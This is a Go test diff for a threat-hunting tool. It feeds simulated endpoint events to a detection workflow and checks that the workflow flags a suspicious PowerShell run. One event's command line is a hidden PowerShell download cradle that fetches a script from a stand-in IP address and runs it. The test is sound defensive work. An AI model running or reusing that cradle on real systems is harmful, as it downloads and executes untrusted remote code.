@@ -14,6 +14,7 @@ import (
 	"github.com/stretchr/testify/require"
 
 	"github.com/s1copilot/s1copilot/config"
+	"github.com/s1copilot/s1copilot/scenario"
 	"github.com/s1copilot/s1copilot/tools/s1sim/simulator"
 	"github.com/s1copilot/s1copilot/workflows"
 )
@@ -27,6 +28,13 @@ func TestHuntFromQuestionToFiles(t *testing.T) {
 		config: func(c *config.Config) { c.HuntDir = dir },
 		sim:    func(o *simulator.Options) { o.DVQueryDelay = 2 * time.Second },
 	})
+	// Endpoint telemetry: one download cradle, one PowerShell run that is not
+	// suspicious, one unrelated process. The simulator evaluates the S1QL query.
+	require.NoError(t, s.sim.AddEvents([]scenario.AgentEvent{
+		{AgentID: "1900000000000000002", Event: scenario.Event{EventType: "Process Creation", Before: "1h", ProcessName: "powershell.exe", ProcessCmd: "powershell.exe -nop -w hidden -c IEX (New-Object Net.WebClient).DownloadString('http://198.51.100.7/a')"}},
+		{AgentID: "1900000000000000003", Event: scenario.Event{EventType: "Process Creation", Before: "2h", ProcessName: "powershell.exe", ProcessCmd: "powershell.exe -File C:\\scripts\\inventory-report.ps1"}},
+		{AgentID: "1900000000000000001", Event: scenario.Event{EventType: "Process Creation", Before: "3h", ProcessName: "notepad.exe", ProcessCmd: "notepad.exe notes.txt"}},
+	}))
 	hunts := workflows.Hunts{Client: s.c, TaskQueue: s.cfg.Temporal.TaskQueue}
 	id := workflows.NewHuntID(time.Now())
 	require.NoError(t, hunts.Start(s.ctx, workflows.HuntInput{ID: id, Question: "show me endpoints with suspicious PowerShell in the last 24 hours", Actor: "it-analyst", Channel: "cli"}))
@@ -46,14 +54,14 @@ func TestHuntFromQuestionToFiles(t *testing.T) {
 	require.NoError(t, err)
 	require.Equal(t, workflows.HuntFinished, res.Outcome, res.Reason)
 	require.NotNil(t, res.Summary)
-	// Until the simulator evaluates S1QL (branch huntlang), every event in the window
-	// matches; the assertions below hold either way.
 	assert.Positive(t, res.Summary.Events)
 	for _, p := range []string{res.Summary.JSONPath, res.Summary.CSVPath} {
 		assert.True(t, strings.HasPrefix(p, dir), p)
 		b, err := os.ReadFile(p)
 		require.NoError(t, err)
-		assert.NotEmpty(t, b)
+		assert.Contains(t, string(b), "DownloadString", "the suspicious run was found")
+		assert.NotContains(t, string(b), "inventory-report.ps1", "the query filtered the benign run out")
+		assert.NotContains(t, string(b), "notepad.exe")
 	}
 	assert.NotEmpty(t, res.FollowUps)
 	assert.Contains(t, s.audit.String(), `"id":"s1-hunt/`+id+`/outcome"`)
